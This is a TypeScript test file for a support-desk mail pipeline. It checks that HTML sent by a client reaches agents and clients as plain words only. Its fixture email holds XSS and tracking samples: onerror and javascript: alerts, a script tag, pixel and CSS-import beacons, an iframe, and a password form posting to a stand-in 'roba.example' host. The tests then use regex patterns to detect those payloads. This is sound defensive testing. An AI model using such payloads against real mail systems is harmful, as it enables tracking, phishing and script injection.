/** What a client writes in HTML reaches agents and clients as words only: no tag of theirs, nothing to load, nothing to follow. */
import { decide } from '../../src/case/decide';
import { knownWithoutStore } from '../../src/flows/explain';
import { understand } from '../../src/intake/understand';
import type { Letter } from '../../src/letters/letter';
import { read } from '../support/raw-mail';
import { BENCH, NOW } from './cases';

const PAGE = [
  '<p>No imprime la <b>caja 3</b>.</p>',
  '<img src="http://pixel.example/p.gif?u=ana" width=1 height=1><img src="cid:logo@x" onerror="alert(1)">',
  '<a href="https://rastreo.example/c?u=ana">la foto</a> <a href="javascript:alert(2)">aquí</a>',
  '<style>@import url(http://pixel.example/s.css)</style><script>alert(3)</script>',
  '<form action="http://roba.example"><input name=clave></form><iframe src="//roba.example"></iframe>',
  '<div style="background:url(http://pixel.example/b.png)">Gracias</div>',
  '<p>&lt;script&gt;alert(4)&lt;/script&gt; {{subject}}</p>',
].join('');

let letters: Letter[];
beforeAll(async () => {
  const mail = await read(
    `From: "<b>Ana</b>" <ana@elroble.example>\nTo: soporte@websaas.net\nSubject: <img src=x onerror=alert(5)> Caja 3\nMessage-ID: <h@elroble.example>\nContent-Type: text/html; charset=utf-8\n\n${PAGE}`,
  );
  const reading = understand(mail, BENCH.reader, () => false);
  const known = knownWithoutStore(reading, BENCH, NOW);
  const change = decide(
    {
      ...{ mailId: 1, reading, known, receivedAt: NOW, now: NOW, tooLarge: false, released: false },
      messageBytes: 26_214_400,
    },
    BENCH.desk,
    BENCH.reader,
  );
  letters = change.letters.map(({ letter }) => letter);
});

test('agents and client get their letters, the words in them', () => {
  expect(letters.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['confirmation', 'notice']));
  const notice = letters.find(({ kind }) => kind === 'notice')!;
  expect(notice.html).toContain('No imprime la caja 3.');
  expect(notice.html).toContain('&lt;script&gt;alert(4)');
});

test('no picture, script, form or frame of theirs is in any of them', () => {
  for (const { html } of letters) {
    expect(html).not.toMatch(/<(?:img|script|style[^>]*>@import|form|input|iframe|link|object)\b/i);
    expect(html).not.toMatch(/<[^>]*\bon\w+\s*=/i);
  }
});

test('no address of theirs is there to load or to follow', () => {
  for (const { html, text } of letters) {
    const links = [...html!.matchAll(/(?:href|src|action|background)\s*=\s*"([^"]*)"/gi)].map(
      ([, url]) => url!,
    );
    expect(links.filter((url) => !/^(?:mailto:soporte|tel:)/.test(url))).toEqual([]);
    expect(`${html}${text}`).not.toMatch(/pixel\.example|rastreo\.example|roba\.example/);
  }
});
